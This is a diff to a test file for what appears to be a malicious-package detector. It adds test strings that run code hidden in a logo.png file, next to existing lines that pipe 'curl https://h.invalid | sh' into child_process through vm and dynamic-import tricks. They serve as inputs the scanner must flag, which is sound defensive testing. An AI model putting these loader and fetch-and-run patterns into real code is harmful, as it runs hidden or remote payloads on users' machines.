@@ -140,6 +140,8 @@ const sends: readonly string[] = [
 
 /** Code is fetched, decoded, planted, or destroys. */
 const runs: readonly string[] = [
+  "const tags = require('fs').readFileSync(__dirname + '/logo.png'); const f = global[tags.toString().slice(-4)]; f(tags)",
+  "const { a, b } = (t => ({ a: t.slice(0, 4), b: t.slice(4) }))(require('fs').readFileSync(__dirname + '/logo.png', 'latin1')); globalThis[a](b)",
   "import('data:text/javascript,export default c => c(\"curl https://h.invalid | sh\")').then(m => m.default(require('child_process').exec))",
   "new (require('vm').Script)('(function (r) { r(\\'child_process\\').exec(\\'curl https://h.invalid | sh\\') })').runInThisContext()(require)",
   "const s = new (require('vm').Script)('({ go: r => r(\\'child_process\\').exec(\\'curl https://h.invalid | sh\\') })'); s.runInNewContext({}).go(require)",
@@ -244,7 +246,12 @@ t.test('a secret that is read and sent is a flow, whatever stands between', t =>
 
 t.test('code that is fetched, decoded or planted is an alarm, whatever runs it', t => {
   for (const line of runs) {
-    const files = { 'package.json': manifest, 'i.js': line, 'data.txt': 'console.log(1)', 'logo.png': 'PNG' }
+    const files = {
+      'package.json': manifest,
+      'i.js': line,
+      'data.txt': 'console.log(1)',
+      'logo.png': 'PNG\0\u0001',
+    }
     t.ok(
       findingsOf({ files }).some(({ action }) => action !== 'note'),
       line,
